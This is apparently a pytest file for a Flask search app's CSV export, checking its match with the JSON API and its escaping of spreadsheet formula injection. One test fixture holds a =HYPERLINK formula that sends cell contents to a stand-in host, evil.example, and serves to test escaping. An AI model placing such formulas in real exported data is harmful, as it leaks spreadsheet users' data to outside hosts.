"""A search's hits as CSV (GET /api/search.csv, linked from the results page): the rows are the
API's hits in the API's order, as plain text a spreadsheet reads without running anything."""
from __future__ import annotations

import csv
import io
import re
from html import unescape
from pathlib import Path
from typing import Any

from flask.testing import FlaskClient

from search.indexer import index_paths
from tests.conftest import write_article
from webapp.engine_access import close as close_engine
from webapp.export import COLUMNS


def rows(client: FlaskClient, url: str) -> list[dict[str, str]]:
    response = client.get(url)
    assert response.status_code == 200, response.get_data(as_text=True)
    assert response.mimetype == "text/csv" and "attachment" in response.headers["Content-Disposition"]
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")  # Excel reads UTF-8 Vietnamese only with the mark
    table = list(csv.DictReader(io.StringIO(text[1:])))
    assert table == [] or list(table[0]) == list(COLUMNS)
    return table


def test_the_csv_holds_the_apis_hits_as_plain_text(client: FlaskClient) -> None:
    api = client.get("/api/search?q=Lavrov&country=RU").get_json()
    table = rows(client, "/api/search.csv?q=Lavrov&country=RU")
    assert [r["id"] for r in table] == [h["id"] for h in api["hits"]] and len(table) >= 2
    for row, hit in zip(table, api["hits"]):
        assert row["title"] == hit["title"]
        assert row["countries"].split("; ") == [c["name"] for c in hit["countries"]]
        assert row["officials"].split("; ") == [o["name"] for o in hit["officials"]]
        assert "<mark>" not in row["snippet"] and "Lavrov" in row["snippet"]
        assert row["snippet"] == unescape(re.sub("</?mark>", "", hit["snippet"]))
        assert float(row["score"]) == round(hit["score"], 3)
        assert row["link"].startswith("http://localhost/articles/")
        assert client.get(row["link"].removeprefix("http://localhost")).status_code == 200
    # sort and page are the API's: the newest-first second page of one hit per page
    second = rows(client, "/api/search.csv?q=Lavrov&sort=newest&per_page=1&page=2")
    assert [r["id"] for r in second] == [h["id"] for h in client.get(
        "/api/search?q=Lavrov&sort=newest&per_page=1&page=2").get_json()["hits"]]
    assert second[0]["score"] == ""  # sorted by date: no relevance, as in the JSON (null)


def test_a_bad_parameter_is_the_apis_json_error(client: FlaskClient) -> None:
    response = client.get("/api/search.csv?q=Lavrov&per_page=0")
    assert response.status_code == 400
    assert response.get_json()["error"]["param"] == "per_page"
    assert rows(client, "/api/search.csv?q=xylophonezzz") == []


def test_the_results_page_links_the_csv_of_what_it_shows(client: FlaskClient) -> None:
    page = client.get("/?q=đàm phán&country=US").get_data(as_text=True)
    links = dict(re.findall(r'<a href="([^"]+)"(?: download)?>(CSV|JSON)</a>', page))
    assert set(links.values()) == {"CSV", "JSON"}
    csv_url = next(u for u, name in links.items() if name == "CSV")
    shown = re.findall(r'<li class="hit">\s*<h3><a href="/articles/([^"?]+)', page)
    assert len(shown) >= 2 and [r["id"] for r in rows(client, unescape(csv_url))] == shown
    assert "Tải kết quả" not in client.get("/?q=xylophonezzz").get_data(as_text=True)  # nothing to download


def test_cells_a_spreadsheet_would_run_as_formulas_are_quoted(tmp_path: Path) -> None:
    """OWASP's CSV injection: an archive's text is not ours to trust (a scraped title can be
    =HYPERLINK(...)); every cell starting =, +, -, @ gets a leading apostrophe."""
    from webapp import create_app

    docs = tmp_path / "docs"
    write_article(docs, "formula.txt", '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")\n'
                                       "Giá vàng hôm nay tăng mạnh tại Hà Nội.")
    write_article(docs, "plain.txt", "@Tin nhanh giá vàng\n-10% giá vàng tại Hà Nội sau một tuần.")
    assert index_paths(tmp_path / "ix", [docs]).indexed == 2
    app = create_app({"INDEX": tmp_path / "ix"})
    try:
        table = {r["id"]: r for r in rows(app.test_client(), "/api/search.csv?q=giá vàng")}
    finally:
        close_engine(app)
    assert table["formula"]["title"].startswith("'=HYPERLINK(")
    assert table["plain"]["title"] == "'@Tin nhanh giá vàng"
    assert table["plain"]["snippet"].startswith("'-10% giá vàng")
    assert all(not v.startswith(("=", "+", "-", "@")) for r in table.values() for v in r.values() if isinstance(v, str))
